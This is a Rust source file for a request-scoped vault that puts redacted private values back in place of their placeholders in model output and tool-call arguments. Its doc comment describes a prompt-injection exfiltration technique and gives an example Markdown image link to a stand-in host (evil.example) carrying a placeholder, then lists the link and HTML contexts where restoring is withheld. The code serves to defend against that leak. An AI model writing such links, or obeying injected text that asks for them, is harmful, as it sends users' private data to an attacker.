//! What was taken out, for as long as the request lives.

use core::fmt;
use serde_json::Value;
use std::collections::BTreeMap;
use std::sync::Arc;

use crate::restore::{Form, Links, Restorer};

/// Placeholder → original, of one request. Its `Debug` shows how many values it holds and none of them. A clone shares
/// them.
#[derive(Clone, Default)]
pub struct Vault(pub(crate) Arc<BTreeMap<String, String>>);

impl Vault {
    pub(crate) fn new(pairs: impl Iterator<Item = (String, String)>) -> Self {
        Self(Arc::new(pairs.collect()))
    }

    /// Tokens that outlived their request, and what they stand for.
    pub fn of_tokens(pairs: impl IntoIterator<Item = (String, String)>) -> Self {
        Self::new(pairs.into_iter())
    }

    /// Whether nothing was taken out, so that an answer needs no restoring.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// For a text that arrives in pieces.
    pub fn restorer(&self, form: Form, links: Links) -> Restorer {
        Restorer::new(self.clone(), form, links)
    }

    /// `text` with this vault's own placeholders replaced by their originals; any other text stays as it is, however
    /// much it looks like a placeholder.
    ///
    /// A placeholder stays where rendering the answer would send it somewhere. A prompt injection can make the
    /// model write `![](https://evil.example/?q=[EMAIL_1_k3f9a2x7])`. These places are:
    /// - a run of characters without white space that holds, before the placeholder, `//` (or `\/\/`), `www.`, a
    ///   scheme such as `mailto:`, or a dotted name followed by `/`, `?`, `#` or a backslash;
    /// - before `.name` followed by another `.name`, `/`, `?`, `#` or `:` (it would be part of a host name);
    /// - between `](` and its closing parenthesis, that is, in a Markdown link's or image's target or title;
    /// - between `<tag` and its closing `>`, that is, in an HTML attribute.
    ///
    /// When in doubt the placeholder stays: also in compact JSON, where a URL earlier in the same run counts.
    /// What a script inside an answer does with its text is the renderer's affair. The text is read once.
    pub fn restore_text(&self, text: &str) -> String {
        self.restorer(Form::Text, Links::Keep).whole(text)
    }

    /// Restores every string of a JSON value, such as a tool call's arguments; object keys stay. Once the strings
    /// have grown by `max_bytes` in all, the rest stay as they are.
    pub fn restore_json(&self, value: &mut Value, max_bytes: usize) {
        let mut left = max_bytes;
        self.restore_within(value, &mut left);
    }

    fn restore_within(&self, value: &mut Value, left: &mut usize) {
        match value {
            Value::String(text) => {
                let whole = self.restorer(Form::Value, Links::Restore).with_limit(*left).whole(text);
                *left = left.saturating_sub(whole.len());
                *text = whole;
            }
            Value::Array(items) => items.iter_mut().for_each(|item| self.restore_within(item, left)),
            Value::Object(fields) => fields.values_mut().for_each(|field| self.restore_within(field, left)),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }
}

impl fmt::Debug for Vault {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Vault").field("values", &self.0.len()).finish_non_exhaustive()
    }
}
